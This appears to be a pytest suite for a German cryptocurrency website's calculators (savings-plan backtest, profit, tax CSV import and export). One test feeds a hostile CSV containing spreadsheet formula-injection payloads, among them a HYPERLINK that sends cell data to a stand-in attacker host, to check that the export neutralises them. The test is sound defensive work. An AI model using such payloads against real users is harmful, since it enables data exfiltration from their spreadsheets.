"""The calculator pages through the HTTP client, on price history stored with the markets
app's own importer (the path `kryptowelt import_prices` takes). The price histories here are
synthetic (generated or made up in this file)."""

import csv
import datetime as dt
import io
import math
import random
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client

from kryptowelt.calculators.sparplan.backtest import sparplan_backtest
from kryptowelt.calculators.sparplan.results import Fees
from kryptowelt.core.formatting import format_eur
from kryptowelt.markets.services.imports import price_history_import

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def site(home):
    """The calculators are a page in the tree: the test site (conftest, built once per
    session) has /rechner/ below its home page."""
    return home


DATA = Path(__file__).parent / "data"
SAMPLE = Path(__file__).parent.parent / "samples" / "kryptowelt-beispiel.csv"
ISSUE_URL = (
    "/rechner/sparplan/?coin=bitcoin&betrag=100&intervall=monatlich"
    "&start=2020-01-01&ende=2024-12-31&gebuehr=1.0"
)


def _import(coin_id, symbol, name, rows):
    text = "date,open,high,low,close,volume\n" + "".join(f"{d},,,,{c},\n" for d, c in rows)
    price_history_import(
        source=io.StringIO(text), coin_id=coin_id, currency="eur", name=name, symbol=symbol
    )


def _bitcoin_rows():
    """Synthetic daily closes in euros from 1 June 2019 to 31 January 2025 (a generated
    random walk with rises and falls, not Bitcoin's real history)."""
    rnd = random.Random(2019)
    price, rows = 7500.0, []
    current = dt.date(2019, 6, 1)
    while current <= dt.date(2025, 1, 31):
        price *= math.exp(rnd.gauss(0.0012, 0.035))
        rows.append((current.isoformat(), f"{price:.2f}"))
        current += dt.timedelta(days=1)
    return rows


@pytest.fixture
def bitcoin():
    rows = _bitcoin_rows()
    _import("bitcoin", "btc", "Bitcoin", rows)
    return rows


@pytest.fixture
def coin_prices():
    _import("ethereum", "eth", "Ethereum", [("2024-04-01", "3050"), ("2024-04-02", "3100")])
    _import("solana", "sol", "Solana", [("2024-07-09", "140"), ("2024-07-10", "138")])


# --- overview and navigation -------------------------------------------------------------


def test_overview_lists_every_calculator_and_sets_no_cookie(client, home):
    response = client.get("/rechner/")
    html = response.content.decode()
    assert response.status_code == 200
    # The cost calculator lives under /vergleich/ and is listed with the others all the same.
    for url in (
        "/rechner/sparplan/",
        "/rechner/gewinn/",
        "/rechner/steuer/",
        "/vergleich/kostenrechner/",
    ):
        assert f'href="{url}' in html
    assert 'aria-current="page">Rechner</a>' in html
    assert not response.cookies


def test_site_navigation_links_to_the_calculators(client, home):
    assert '<a href="/rechner/"' in client.get("/").content.decode()


# --- Sparplan ----------------------------------------------------------------------------


def test_sparplan_page_on_stored_history_matches_the_backtest(client, bitcoin, home):
    response = client.get(ISSUE_URL)
    html = response.content.decode()
    assert response.status_code == 200
    series = [(dt.date.fromisoformat(d), Decimal(c)) for d, c in bitcoin]
    expected = sparplan_backtest(
        series=series,
        amount=Decimal(100),
        interval="monatlich",
        start=dt.date(2020, 1, 1),
        end=dt.date(2024, 12, 31),
        fees=Fees(percent=Decimal(1)),
    )
    assert len(expected.purchases) == 60
    assert format_eur(expected.invested) in html  # 6.000,00 €
    assert format_eur(expected.value) in html
    assert format_eur(expected.lump_sum.value) in html
    for year in ("2020", "2021", "2022", "2023", "2024"):
        assert f'<th scope="row">{year}</th>' in html
    assert 'role="img" aria-labelledby="sparplan-chart-title sparplan-chart-desc"' in html
    assert '<path class="chart__line chart__line--value"' in html
    assert "Alle 60 Käufe anzeigen" in html
    assert "public" in response["Cache-Control"]
    assert not response.cookies


def test_sparplan_without_parameters_shows_an_example(client, bitcoin, home):
    response = client.get("/rechner/sparplan/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "Beispiel: 100,00\u00a0€ monatlich in Bitcoin" in html


def test_sparplan_result_is_not_indexed_and_points_search_engines_to_the_form(
    client, bitcoin, home
):
    """Lighthouse's SEO audit `is-crawlable` fails on a result on purpose
    (benchmarks/lighthouse.py, BY_DESIGN): one page per parameter set must not be indexed;
    the example page without parameters is, and both name it as canonical."""
    canonical = re.compile(r'<link rel="canonical" href="[^"]*/rechner/sparplan/">')
    example = client.get("/rechner/sparplan/").content.decode()
    assert canonical.search(example)
    assert 'name="robots"' not in example
    result = client.get(
        "/rechner/sparplan/?coin=bitcoin&betrag=100&intervall=monatlich"
        "&start=01.03.2022&ende=28.02.2023&gebuehr=1"
    ).content.decode()
    assert canonical.search(result)
    assert '<meta name="robots" content="noindex, follow">' in result


def test_sparplan_accepts_german_numbers_and_dates_in_the_url(client, bitcoin, home):
    response = client.get(
        "/rechner/sparplan/?coin=bitcoin&betrag=1.000,50&intervall=woechentlich"
        "&start=01.03.2022&ende=28.02.2023&gebuehr=0,5&gebuehr_fix=1&spread=0,25"
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "1.000,50\u00a0€ wöchentlich in Bitcoin" in html
    assert "Rendite pro Jahr" in html


def test_sparplan_share_link_gives_the_same_result(client, bitcoin, home):
    """Three decimals must survive the link: "1.125" would read as 1.125 (thousands)."""
    html = client.get(
        "/rechner/sparplan/?coin=bitcoin&betrag=100&intervall=monatlich"
        "&start=01.03.2022&ende=28.02.2023&gebuehr=1,125&spread=0,25"
    ).content.decode()
    share = re.search(r'href="(/rechner/sparplan/\?[^"]*)"', html)
    assert share is not None
    link = share.group(1).replace("&amp;", "&")
    assert "gebuehr=1%2C125" in link
    shared = client.get(link)
    assert shared.status_code == 200
    assert "höchstens 10" not in shared.content.decode()
    assert "1,125" in shared.content.decode()


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("coin=dogecoin-gibt-es-nicht", "Unbekannte Kryptowährung"),
        ("betrag=0", "größer als 0"),
        ("betrag=-50", "größer als 0"),
        ("betrag=hundert", "ist keine Zahl"),
        ("ende=2019-12-31", "Das Enddatum liegt vor dem Startdatum."),
        ("ende=2099-01-01", "Das Enddatum liegt in der Zukunft."),
        ("start=31.02.2020", "gültiges Datum"),
        ("intervall=taeglich", "Unbekanntes Intervall"),
        ("gebuehr=50", "höchstens 10"),
        ("gebuehr_fix=100", "so hoch wie der Sparbetrag"),
        ("start=2000-01-01&ende=2001-01-01", "außerhalb"),
    ],
)
def test_sparplan_bad_input_gets_a_german_message_and_400(client, bitcoin, query, message, home):
    base = {
        "coin": "bitcoin",
        "betrag": "100",
        "intervall": "monatlich",
        "start": "2020-01-01",
        "ende": "2024-12-31",
    }
    for part in query.split("&"):
        key, value = part.split("=")
        base[key] = value
    response = client.get("/rechner/sparplan/", base)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_sparplan_without_any_stored_history_says_so(client, home):
    response = client.get(ISSUE_URL)
    assert response.status_code == 200
    assert "noch keine gespeicherten Kursverläufe" in response.content.decode()


# --- Gewinn ------------------------------------------------------------------------------


def test_gewinn_hand_computed_example(client, home):
    response = client.get(
        "/rechner/gewinn/",
        {
            "kaufkurs": "40.000",
            "verkaufskurs": "50000",
            "menge": "0,5",
            "gebuehr_kauf_prozent": "1",
            "gebuehr_kauf_euro": "1",
            "gebuehr_verkauf_prozent": "0,5",
            "kaufdatum": "2023-03-15",
            "verkaufsdatum": "2024-03-15",
        },
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "+4.674,00&nbsp;€" in html  # 24.875 € − 20.201 €
    assert "20.201,00\u00a0€" in html and "24.875,00\u00a0€" in html
    assert "40.605,03\u00a0€" in html  # break-even 20.201 / (0,5 · 0,995)
    assert "366 Tage, also nicht mehr als ein Jahr" in html
    assert "ab dem 16. März 2024" in html
    assert not response.cookies


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"menge": "0"}, "größer als 0"),
        ({"menge": "-1"}, "größer als 0"),
        ({"kaufkurs": "abc"}, "ist keine Zahl"),
        ({"gebuehr_verkauf_prozent": "100"}, "höchstens 50"),
        ({"kaufdatum": "2099-01-01"}, "Das Kaufdatum liegt in der Zukunft."),
        ({"kaufdatum": "2024-05-01", "verkaufsdatum": "2024-04-01"}, "vor dem Kauf"),
    ],
)
def test_gewinn_bad_input(client, params, message, home):
    query = {"kaufkurs": "100", "verkaufskurs": "120", "menge": "1"} | params
    response = client.get("/rechner/gewinn/", query)
    assert response.status_code == 400
    assert message in response.content.decode()


# --- Steuer ------------------------------------------------------------------------------


def test_tax_page_sets_only_the_csrf_cookie_and_is_not_cached(client, home):
    response = client.get("/rechner/steuer/")
    assert response.status_code == 200
    assert set(response.cookies) == {"csrftoken"}
    assert "no-store" in response["Cache-Control"]
    assert "X-Robots-Tag" not in response  # the calculator itself should be found
    html = response.content.decode()
    assert "Keine Steuerberatung" in html and 'enctype="multipart/form-data"' in html


def test_tax_sample_gives_the_documented_result(client, home):
    response = client.post("/rechner/steuer/", {"beispiel": "1"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and response["X-Robots-Tag"] == "noindex"
    assert "2.517,11\u00a0€" in html  # taxable 2024, above the Freigrenze
    assert "334,50\u00a0€" in html  # staking + lending 2024
    assert "366 Tage" in html and "367 Tage" in html
    assert "erreicht die Freigrenze von 1.000\u00a0€" in html


def test_tax_upload_in_windows_1252_with_german_numbers(client, home):
    data = SAMPLE.read_text(encoding="utf-8").encode("cp1252")
    upload = io.BytesIO(data)
    upload.name = "meine-trades.csv"
    response = client.post("/rechner/steuer/", {"datei": upload, "ausgabe": "html"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "„meine-trades.csv“" in html and "2.517,11\u00a0€" in html


def test_tax_csv_download(client, home):
    upload = io.BytesIO(SAMPLE.read_bytes())
    upload.name = "x.csv"
    response = client.post("/rechner/steuer/", {"datei": upload, "ausgabe": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="kryptowelt-steuer-2023-2024.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeffJahresübersicht")
    assert "2024;2620,15;-103,04;2517,11;1000,00;2517,11;1985,76;334,50;334,50" in text
    assert ";5;15.03.2024;Verkauf;BTC;0,05;;2;15.03.2023;Kauf;366;nein;" in text
    assert ";6;16.03.2024;Verkauf;BTC;0,05;;2;15.03.2023;Kauf;367;ja;" in text


def _csv_cells(response) -> list[list[str]]:
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_tax_csv_download_neutralises_formulas_in_coin_symbols_but_keeps_negative_numbers(
    client, home
):
    # A hostile upload: coin symbols that a spreadsheet would run as formulas, and a sale at
    # a loss so that the report has negative amounts of its own.
    hyperlink = '=HYPERLINK("http://boese.example/?d="&A1;"Details")'
    quoted = hyperlink.replace('"', '""')
    data = (
        "Datum;Typ;Coin;Menge;Preis_EUR;Gebuehr_EUR;Ziel_Coin;Ziel_Menge\n"
        f'01.02.2024;Kauf;"{quoted}";1;100;;;\n'
        f'01.03.2024;Verkauf;"{quoted}";1;50;;;\n'
        "01.02.2024;Kauf;@SUM(1+1);2;10;;;\n"
        "05.02.2024;Tausch;@SUM(1+1);1;10;;-5;3\n"
        "06.02.2024;Staking;+1+1;1;3;;;\n"
        "07.02.2024;Verkauf;-5;1;4;;;\n"
    ).encode()
    upload = io.BytesIO(data)
    upload.name = "boese.csv"
    response = client.post("/rechner/steuer/", {"datei": upload, "ausgabe": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    # 2024: gain 4 − 10/3 on the "-5" coins, loss −50 on the first sale, staking 3 €.
    assert cells[2] == [
        "2024",
        "0,67",
        "-50,00",
        "-49,33",
        "1000,00",
        "-49,33",
        "0,00",
        "3,00",
        "0,00",
        "0,00",  # nothing carried back (no 2023)
        "0,00",
        "0,00",
        "0,00",  # taxable after losses
        "49,33",  # the loss is carried forward
    ]
    detail = {(row[1], row[3]): row for row in cells if len(row) == 17 and row[1].isdigit()}
    sale = detail[("3", "Verkauf")]
    assert sale[4] == "'" + hyperlink.upper()  # text, not a formula
    assert sale[12:15] == ["50,00", "100,00", "-50,00"]  # our own numbers stay numbers
    assert sale[15] == "boese.csv"
    swap = detail[("5", "Tausch")]
    assert swap[4] == "'@SUM(1+1)" and swap[6] == "3 -5"
    staking = detail[("6", "Staking (§ 22 Nr. 3 EStG)")]
    assert staking[4] == "'+1+1" and staking[12] == "3,00"
    sale_of_swapped = detail[("7", "Verkauf")]  # the "-5" coins the swap bought
    assert sale_of_swapped[4] == "'-5"
    body = response.content.decode("utf-8")
    assert "\n=" not in body and ";=" not in body and ";@" not in body and ";+" not in body


def test_result_page_hands_the_data_back_for_print_and_csv(client, home):
    html = client.post("/rechner/steuer/", {"beispiel": "1"}).content.decode()
    start = html.index('<textarea name="daten" hidden aria-hidden="true">') + len(
        '<textarea name="daten" hidden aria-hidden="true">'
    )
    daten = html[start : html.index("</textarea>", start)]
    import html as html_lib

    daten = html_lib.unescape(daten)
    printed = client.post("/rechner/steuer/", {"daten": daten, "ausgabe": "druck"})
    assert printed.status_code == 200
    text = printed.content.decode()
    assert "Aufstellung Kryptowährungen" in text and "2.517,11\u00a0€" in text
    # Row numbers still point at the reader's original file.
    assert "<td>5/2</td>" in text


def test_kraken_export_valued_with_stored_prices(client, coin_prices, home):
    upload = io.BytesIO((DATA / "kraken-trades.csv").read_bytes())
    upload.name = "trades.csv"
    response = client.post("/rechner/steuer/", {"datei": upload})
    html = response.content.decode()
    assert response.status_code == 200
    assert "Kraken (Trades-Export)" in html
    assert "2 Bewertungen ohne Euro-Kurs im Export" in html and "(ETH, SOL)" in html


def test_coinbase_export(client, home):
    upload = io.BytesIO((DATA / "coinbase-2024.csv").read_bytes())
    upload.name = "coinbase.csv"
    response = client.post("/rechner/steuer/", {"datei": upload})
    html = response.content.decode()
    assert response.status_code == 200
    assert "Coinbase (Transaktionsverlauf)" in html
    assert "1 × Versand an eine andere Adresse" in html


def test_manual_entry_and_more_rows(client, home):
    response = client.post("/rechner/steuer/", {"zeilen": "8", "mehr_zeilen": "1"})
    assert response.content.decode().count('name="datum_') == 18
    rows = {
        "zeilen": "8",
        "datum_0": "15.03.2023",
        "typ_0": "kauf",
        "coin_0": "btc",
        "menge_0": "1",
        "preis_0": "20.000",
        "datum_1": "16.03.2024",
        "typ_1": "verkauf",
        "coin_1": "BTC",
        "menge_1": "1",
        "preis_1": "60.000",
        "typ_2": "kauf",  # an otherwise empty row does not count
    }
    response = client.post("/rechner/steuer/", rows)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Alle Verkäufe lagen mehr als ein Jahr nach der Anschaffung" in html
    assert "40.000,00\u00a0€" in html
    assert "1 Verkauf, Tausch oder Gebühr mit den zugehörigen Käufen" in html  # not "1 Verkäufe"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            b"Datum;Typ;Coin;Menge;Preis_EUR\n01.01.2024;Kauf;BTC;1;30000\n"
            b"01.02.2024;Verkauf;BTC;2;35000\n",
            "Zeile 3: Verkauf von 2 BTC am 01.02.2024, aber zu diesem Zeitpunkt sind nur 1 BTC",
        ),
        (b"Name;Betrag\nMiete;800\n", "passen zu keinem bekannten Format"),
        (b"Datum;Typ;Coin;Menge;Preis_EUR\n01.01.2099;Kauf;BTC;1;1\n", "in der Zukunft"),
        (b"Datum;Typ;Coin;Menge;Preis_EUR\n01.01.2024;Kauf;BTC;0;1\n", "größer als 0"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "keine Textdatei"),
    ],
)
def test_tax_bad_files(client, data, message, home):
    upload = io.BytesIO(data)
    upload.name = "x.csv"
    response = client.post("/rechner/steuer/", {"datei": upload})
    assert response.status_code == 400
    assert message in response.content.decode()


def test_tax_upload_with_a_field_over_128_kib_names_the_line_instead_of_failing(client, home):
    limit = csv.field_size_limit()
    data = (
        b"Datum;Typ;Coin;Menge;Preis_EUR;Notiz\n01.01.2024;Kauf;BTC;1;100;kurz\n"
        b"02.01.2024;Kauf;BTC;1;100;" + b"x" * (128 * 1024 + 1) + b"\n03.01.2024;Kauf;BTC;1;1;\n"
    )
    upload = io.BytesIO(data)
    upload.name = "lang.csv"
    response = client.post("/rechner/steuer/", {"datei": upload})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Zeile 3: ein Feld ist länger als 131.072 Zeichen" in html
    assert csv.field_size_limit() == limit  # the process-wide limit is left alone


def test_too_large_upload_is_refused_without_touching_the_disk(client, settings, tmp_path, home):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # Django's default handler would spill to disk
    upload = io.BytesIO(b"Datum;Typ;Coin;Menge;Preis_EUR\n" + b"01.01.2024;Kauf;BTC;1;1\n" * 200)
    upload.name = "klein.csv"
    assert client.post("/rechner/steuer/", {"datei": upload}).status_code == 200
    assert list(tmp_path.iterdir()) == []

    from kryptowelt.calculators import tax_views

    big = io.BytesIO(b"0" * (tax_views.MAX_UPLOAD_BYTES + 10))
    big.name = "gross.csv"
    response = client.post("/rechner/steuer/", {"datei": big})
    assert response.status_code == 413
    assert "größer als 10 MB" in response.content.decode()
    assert list(tmp_path.iterdir()) == []


def test_tax_post_requires_the_csrf_token(home):
    client = Client(enforce_csrf_checks=True)
    response = client.post("/rechner/steuer/", {"beispiel": "1"})
    assert response.status_code == 403
    page = client.get("/rechner/steuer/")
    token = page.cookies["csrftoken"].value
    response = client.post(
        "/rechner/steuer/", {"beispiel": "1", "csrfmiddlewaretoken": _form_token(page)}
    )
    assert token and response.status_code == 200


def _form_token(response) -> str:
    html = response.content.decode()
    marker = 'name="csrfmiddlewaretoken" value="'
    start = html.index(marker) + len(marker)
    return html[start : html.index('"', start)]


def test_sample_file_download(client, home):
    response = client.get("/rechner/steuer/beispiel.csv")
    assert response.status_code == 200
    assert response.content == SAMPLE.read_bytes()


# --- provider fees from the comparisons ----------------------------------------------------


@pytest.fixture
def sparplan_broker():
    from kryptowelt.comparisons.factories import figure, provider_make

    return provider_make(
        name="Sparbroker",
        slug="sparbroker",
        kind_broker=True,
        kind_sparplan=True,
        pricing="broker",
        figures=[
            figure("sparplan", True),
            figure("sparplan_fee", "0.5", eur="1.00"),
            figure("spread_pct", "0.99"),
            figure("sparplan_min_eur", "25"),
            figure("sparplan_intervals", "monatlich"),
        ],
    )


def test_sparplan_with_fees_taken_from_a_provider_in_the_comparisons(
    client, bitcoin, sparplan_broker, home
):
    response = client.get(ISSUE_URL + "&anbieter=sparbroker&intervall=woechentlich")
    html = response.content.decode()
    assert response.status_code == 200
    series = [(dt.date.fromisoformat(d), Decimal(c)) for d, c in bitcoin]
    expected = sparplan_backtest(
        series=series,
        amount=Decimal(100),
        interval="woechentlich",
        start=dt.date(2020, 1, 1),
        end=dt.date(2024, 12, 31),
        fees=Fees(percent=Decimal("0.5"), fixed=Decimal(1), spread_percent=Decimal("0.99")),
    )
    assert format_eur(expected.value) in html  # the provider's fees, not the 1 % in the URL
    assert f'Kosten von <a href="{sparplan_broker.get_absolute_url()}">Sparbroker</a>' in html
    assert "geprüft am" in html
    assert "bietet laut unserem Vergleich das Intervall „wöchentlich“ nicht an" in html


def test_provider_minimum_rate_and_unknown_provider(client, bitcoin, sparplan_broker, home):
    response = client.get(ISSUE_URL.replace("betrag=100", "betrag=10") + "&anbieter=sparbroker")
    assert response.status_code == 400
    assert "Die Mindestrate bei Sparbroker beträgt 25 €." in response.content.decode()
    response = client.get(ISSUE_URL + "&anbieter=gibt-es-nicht")
    assert response.status_code == 400
    assert "Unbekannter Anbieter" in response.content.decode()


def test_calculators_are_in_the_sitemap(client, home):
    xml = client.get("/sitemap.xml").content.decode()
    for path in ("/rechner/", "/rechner/sparplan/", "/rechner/gewinn/", "/rechner/steuer/"):
        assert f"http://testserver{path}</loc>" in xml
